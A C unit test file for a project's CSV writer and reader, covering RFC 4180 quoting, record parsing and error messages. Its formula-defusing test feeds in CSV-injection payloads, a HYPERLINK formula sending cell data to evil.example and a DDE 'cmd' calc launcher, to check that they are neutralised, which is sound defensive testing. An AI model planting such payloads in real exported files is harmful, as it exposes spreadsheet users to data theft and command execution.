/* test_csv.c: RFC 4180 quoting and formula defusing on the way out; the
 * record reader (quotes, CRLF, BOM, blank lines, errors with lines) on the
 * way in. */
#include "harness.h"
#include "shipskip/util/csv.h"

static char *field(const char *s) {
  struct sk_buf b;
  sk_buf_init(&b, 1 << 20);
  if (sk_csv_field(&b, s) != 0) {
    sk_buf_cleanup(&b);
    return NULL;
  }
  return sk_buf_take(&b);
}

#define FIELD_EQ(in, want)                                                     \
  do {                                                                         \
    char *f_ = field(in);                                                      \
    int ok_ = f_ != NULL && strcmp(f_, want) == 0;                             \
    if (!ok_)                                                                  \
      fprintf(stderr, "  field(%s) = %s\n", #in, f_ ? f_ : "(null)");          \
    free(f_);                                                                  \
    ASSERT(ok_);                                                               \
  } while (0)

TEST(quoting) {
  FIELD_EQ("plain", "plain");
  FIELD_EQ("a,b", "\"a,b\"");
  FIELD_EQ("say \"hi\"", "\"say \"\"hi\"\"\"");
  FIELD_EQ("two\nlines", "\"two\nlines\"");
  FIELD_EQ("cr\rhere", "\"cr\rhere\"");
  FIELD_EQ("", "");
  FIELD_EQ(NULL, "");
  FIELD_EQ("café · ✓", "café · ✓");
}

TEST(formulas_are_defused) {
  FIELD_EQ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
           "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"");
  FIELD_EQ("=1+1", "'=1+1");
  FIELD_EQ("+1", "'+1");
  FIELD_EQ("-2+3", "'-2+3");
  FIELD_EQ("@SUM(A1)", "'@SUM(A1)");
  FIELD_EQ("\t=1", "'\t=1");
  FIELD_EQ("\r=1", "\"'\r=1\"");
  FIELD_EQ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0");
  /* Only the first character matters. */
  FIELD_EQ("a=1", "a=1");
  FIELD_EQ(" =1", " =1");
}

static int read_all(const char *text, char *out, size_t size,
                    struct sk_error *err) {
  struct sk_csv_reader r;
  struct sk_csv_record rec;
  int rc;
  size_t used = 0;

  out[0] = '\0';
  sk_csv_reader_init(&r, text, strlen(text), "t.csv");
  sk_csv_record_init(&rec);
  while ((rc = sk_csv_next(&r, &rec, err)) == 1) {
    size_t i;
    used += (size_t)snprintf(out + used, size - used, "%ld:", rec.line);
    for (i = 0; i < rec.n; i++)
      used += (size_t)snprintf(out + used, size - used, "[%s]", rec.fields[i]);
    used += (size_t)snprintf(out + used, size - used, ";");
  }
  sk_csv_record_cleanup(&rec);
  return rc;
}

TEST(reader) {
  char out[512];
  struct sk_error e;
  sk_error_clear(&e);
  ASSERT_INT_EQ(read_all("\xEF\xBB\xBFslug,ship,skip\r\na,1,2\r\n\r\n"
                         "\"b,c\",\"3\",\"say \"\"x\"\"\"\n\"multi\nline\",,\n"
                         "last,4,5",
                         out, sizeof(out), &e),
                0);
  ASSERT_STR_EQ(out, "1:[slug][ship][skip];2:[a][1][2];4:[b,c][3][say "
                     "\"x\"];5:[multi\nline][][];7:[last][4][5];");
  ASSERT_INT_EQ(read_all("", out, sizeof(out), &e), 0);
  ASSERT_STR_EQ(out, "");
}

TEST(reader_errors) {
  char out[512];
  struct sk_error e;
  sk_error_clear(&e);
  ASSERT_INT_EQ(read_all("a,b\n\"open,1\n2\n", out, sizeof(out), &e),
                SK_EPARSE);
  ASSERT_CONTAINS(e.msg, "t.csv:2: unterminated quoted field");
  sk_error_clear(&e);
  ASSERT_INT_EQ(read_all("a,b\nx,y\"z\n", out, sizeof(out), &e), SK_EPARSE);
  ASSERT_CONTAINS(e.msg, "t.csv:2: a \" inside an unquoted field");
  sk_error_clear(&e);
  ASSERT_INT_EQ(read_all("\"a\"b,c\n", out, sizeof(out), &e), SK_EPARSE);
  ASSERT_CONTAINS(e.msg, "t.csv:1: text after a closing quote");
  sk_error_clear(&e);
  ASSERT_INT_EQ(
      read_all(",,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,\n", out, sizeof(out), &e),
      SK_EPARSE);
  ASSERT_CONTAINS(e.msg, "more than 32 fields");
}

TEST(a_nul_in_a_quoted_field_is_refused) {
  /* Quoted or not, a NUL would cut the field short: "ab\0cd" read as a
   * slug "ab". */
  static const char text[] = "slug,ship\n\"ab\0cd\",1\n";
  struct sk_csv_reader r;
  struct sk_csv_record rec;
  struct sk_error e;
  sk_error_clear(&e);
  sk_csv_reader_init(&r, text, sizeof(text) - 1, "t.csv");
  sk_csv_record_init(&rec);
  ASSERT_INT_EQ(sk_csv_next(&r, &rec, &e), 1);
  ASSERT_INT_EQ(sk_csv_next(&r, &rec, &e), SK_EPARSE);
  ASSERT_CONTAINS(e.msg, "t.csv:2: NUL byte in the data");
  sk_csv_record_cleanup(&rec);
}

int main(void) {
  RUN(quoting);
  RUN(formulas_are_defused);
  RUN(reader);
  RUN(reader_errors);
  RUN(a_nul_in_a_quoted_field_is_refused);
  return TEST_REPORT();
}
